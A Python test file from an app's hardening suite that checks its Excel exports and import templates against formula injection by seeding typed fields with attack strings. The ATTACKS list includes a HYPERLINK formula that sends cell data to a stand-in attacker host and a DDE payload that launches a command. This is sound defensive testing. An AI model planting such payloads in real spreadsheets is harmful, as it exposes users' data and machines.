"""No Excel file the app hands out ever holds a formula made of what people typed.

Every free-text column of every row is overwritten with text that Excel, WPS or LibreOffice would
take for a formula (= + - @, a leading tab or carriage return), then every workbook the app serves
(the exports, and the import templates that list units and people) is opened: no cell is a
formula, and every cell beginning like one is stored as text with the quote prefix, so it shows as
typed and stays text when edited. tests/ledger/test_excel.py checks the ledger export's columns.
"""
import io
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import String

from app.extensions import db
from app.xlsx import FORMULA_TRIGGERS, XLSX_MIMETYPE
from tests.hardening.world import get_urls, overwrite_free_text

ATTACKS = ('=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)",
           "\t=1+1", "\r=1+1")
FORMULA = re.compile(rb"<(?:\w+:)?f[ >]")


def attack(k: int, column) -> str:
    """Formula-like text numbered k (names and usernames are unique), within the column's length."""
    text, number = ATTACKS[k % len(ATTACKS)], f"#{k}"
    length = column.type.length if isinstance(column.type, String) else None
    return (text[:length - len(number)] if length else text) + number


def test_no_workbook_holds_a_formula_of_typed_text(app, client, auth, world):
    auth.login("admin")
    overwrite_free_text(attack)
    db.session.commit()
    urls = get_urls(app, world) + [f"/ledger/import/template?unit={world['office'].id}"]
    workbooks = 0
    for url in urls:
        response = client.get(url)
        if response.mimetype != XLSX_MIMETYPE:
            continue
        workbooks += 1
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not FORMULA.search(archive.read(name)), (url, name)
        quoted = 0
        for sheet in load_workbook(io.BytesIO(response.data)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, (url, sheet.title, cell.coordinate)
                        quoted += 1
        assert quoted, f"{url}: none of the typed text reached the workbook"
    assert workbooks >= 7  # ledger, commendations ×2, letters, overview exports; the two import templates
